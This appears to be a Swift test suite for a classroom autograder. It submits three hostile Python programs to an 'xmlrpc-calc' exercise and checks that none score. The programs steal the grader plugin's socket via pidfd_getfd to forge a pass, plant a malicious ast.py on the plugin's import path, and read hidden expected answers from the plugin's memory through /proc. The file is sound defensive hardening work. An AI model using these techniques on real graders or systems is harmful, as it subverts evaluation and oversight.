import Catalog
import Foundation
import Grading
import Testing
import TestSupport

/// Submissions to the shipped `xmlrpc-calc` exercise that implement nothing and try to score
/// anyway by attacking the xmlrpc plugin that grades them.
///
/// Against the grader before the plugin moved to the cell's driver domain, the channel theft
/// and the planted module scored 10/10 and the memory read 8/10 (checked with the starting
/// build: `classroom exercise check` on a copy of the catalog declaring these programs as
/// broken variants that fail every scenario): the plugin then ran as the student's uid in the
/// student's pid
/// namespace, from files in /box that the student owned, first on its import path, talking
/// to the grader over TCP port 6000. Now the plugin runs under a uid of its own, in a pid
/// namespace the student cannot see, from read-only files in /driver the student cannot
/// see, isolated (`python3 -I`), over a socketpair it inherits.
@Suite("External plugin attacks", .serialized)
struct ExternalPluginAttackTests {
    /// The shipped exercise the attacks are graded against.
    static func exercise() throws -> (LoadedExercise, PluginRegistry) {
        let registry = try PluginRegistry.withExternalPlugins(in: Repository.root.appendingPathComponent("grader"))
        let catalog = Repository.withoutCalendar(try CatalogLoader(root: Repository.root, parameterChecker: registry).load())
        return (try #require(catalog.exercise("xmlrpc-calc")), registry)
    }

    static func grade(_ program: String) async throws -> [ScenarioOutcome] {
        let (exercise, registry) = try Self.exercise()
        let input = GradingInput(exercise: exercise.definition, exerciseFiles: exercise.files,
                                 submission: ["calc_server.py": Data(program.utf8)])
        return try await Grader(registry: registry).grade(input)
    }

    static func expectNothingScored(_ outcomes: [ScenarioOutcome], sourceLocation: Testing.SourceLocation = #_sourceLocation) throws {
        // Every scenario of the exercise ran (each one an xmlrpc scenario), and none scored.
        let scenarios = try Self.exercise().0.definition.scenarios.map(\.name)
        #expect(!scenarios.isEmpty && outcomes.map(\.name) == scenarios, sourceLocation: sourceLocation)
        for outcome in outcomes {
            #expect(outcome.points == 0 && outcome.outcome != .passed, "\(outcome.name): \(outcome.message)",
                    sourceLocation: sourceLocation)
            #expect(!outcome.message.contains("forged"), "\(outcome.name): \(outcome.message)", sourceLocation: sourceLocation)
        }
    }

    /// Takes the plugin's connection to the grader out of the plugin process with
    /// pidfd_getfd, stops the plugin, and sends a passing result on it.
    @Test func stealingThePluginsChannelForgesNothing() async throws {
        let outcomes = try await Self.grade("""
            import ctypes, json, os, signal, socket, sys
            port = int(sys.argv[1])
            libc = ctypes.CDLL(None, use_errno=True)
            forged = (json.dumps({"type": "result", "passed": True, "message": "forged"}) + "\\n").encode()
            for name in os.listdir("/proc"):
                try:
                    if not name.isdigit() or b"xmlrpc_peer" not in open("/proc/%s/cmdline" % name, "rb").read():
                        continue
                except OSError:
                    continue
                pidfd = libc.syscall(434, int(name), 0)            # pidfd_open
                for target in range(3, 16):
                    fd = libc.syscall(438, pidfd, target, 0)       # pidfd_getfd
                    if pidfd < 0 or fd < 0:
                        continue
                    stolen = socket.socket(fileno=fd)
                    if stolen.type == socket.SOCK_STREAM:
                        os.kill(int(name), signal.SIGSTOP)
                        stolen.sendall(forged)
            # Listen, so that the grader tells the plugin the program runs, then reads on.
            server = socket.create_server(("127.0.0.1", port))
            while True:
                server.accept()[0].close()
            """)
        try Self.expectNothingScored(outcomes)
    }

    /// Plants `ast.py` where the plugin's Python would import it from (the plugin's folder,
    /// first on its path, and the working directories), then answers with broken XML: the
    /// plugin's parser raises an error it does not expect, and formatting that traceback
    /// imports `ast`, so the planted module would run inside the plugin and send a pass.
    @Test func aModuleWrittenOntoThePluginsPathIsNeverImported() async throws {
        let outcomes = try await Self.grade("""
            import os, socket, sys
            port = int(sys.argv[1])
            payload = '''
            import gc, json, os, socket
            line = (json.dumps({"type": "result", "passed": True, "message": "forged by ast.py"}) + "\\\\n").encode()
            for o in gc.get_objects():
                try:
                    if isinstance(o, socket.socket) and (o.family == socket.AF_UNIX or o.getpeername()[1] == 6000):
                        o.sendall(line)
                except OSError:
                    pass
            os._exit(0)
            '''
            for folder in ("/box/.classroom-plugin/xmlrpc", "/driver/plugins/xmlrpc", "/driver", "/box", "/tmp"):
                try:
                    os.makedirs(folder, exist_ok=True)
                    with open(os.path.join(folder, "ast.py"), "w") as f:
                        f.write(payload)
                except OSError:
                    pass
            server = socket.create_server(("127.0.0.1", port))
            while True:
                conn = server.accept()[0]
                conn.recv(65536)
                body = b"<methodResponse><params></bogus>"
                conn.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Type: text/xml\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
                conn.close()
            """)
        try Self.expectNothingScored(outcomes)
    }

    /// Reads the scenario (every call and its expected answer) out of the plugin's memory
    /// through /proc/<pid>/mem, or out of its files, and serves exactly those answers.
    @Test func theHiddenCallsCannotBeReadFromThePlugin() async throws {
        let outcomes = try await Self.grade("""
            import glob, json, os, re, sys
            from xmlrpc.server import SimpleXMLRPCServer
            scenario = re.compile(rb'\\{"name":.{0,20000}?"type":"scenario"\\}', re.S)

            def found(data):
                for match in scenario.finditer(data):
                    try:
                        return json.loads(match.group(0))["parameters"]["calls"]
                    except ValueError:
                        pass

            def steal():
                for path in glob.glob("/box/.classroom-plugin/**", recursive=True) + glob.glob("/driver/**", recursive=True):
                    try:
                        calls = found(open(path, "rb").read())
                        if calls:
                            return calls
                    except OSError:
                        pass
                for name in os.listdir("/proc"):
                    if not name.isdigit() or int(name) == os.getpid():
                        continue
                    try:
                        with open("/proc/%s/maps" % name) as maps, open("/proc/%s/mem" % name, "rb", 0) as mem:
                            for line in maps:
                                fields = line.split()
                                start, end = (int(x, 16) for x in fields[0].split("-"))
                                if "r" not in fields[1] or end - start > 256 << 20:
                                    continue
                                try:
                                    mem.seek(start)
                                    calls = found(mem.read(end - start))
                                except (OSError, ValueError, OverflowError):
                                    continue
                                if calls:
                                    return calls
                    except OSError:
                        pass
                return []

            class Answers:
                def __init__(self, calls):
                    self.calls = list(calls)

                def _dispatch(self, method, params):
                    for index, call in enumerate(self.calls):
                        if call["method"] == method and call.get("args", []) == list(params):
                            del self.calls[index]
                            if "fault" in call:
                                raise Exception(call["fault"] or "fault")
                            return call.get("expect")
                    raise Exception("no stolen answer for " + method)

            server = SimpleXMLRPCServer(("127.0.0.1", int(sys.argv[1])), allow_none=True, logRequests=False)
            server.register_instance(Answers(steal()))
            server.serve_forever()
            """)
        try Self.expectNothingScored(outcomes)
    }

    /// The same plugin, unattacked, still grades a correct server in full.
    @Test func theSolutionStillScoresInFull() async throws {
        let solution = try String(contentsOf: Repository.root.appendingPathComponent("exercises/xmlrpc-calc/solution/calc_server.py"), encoding: .utf8)
        let outcomes = try await Self.grade(solution)
        #expect(outcomes.count >= 4 && outcomes.allSatisfy { $0.outcome == .passed }, "\(outcomes.map(\.message))")
    }
}
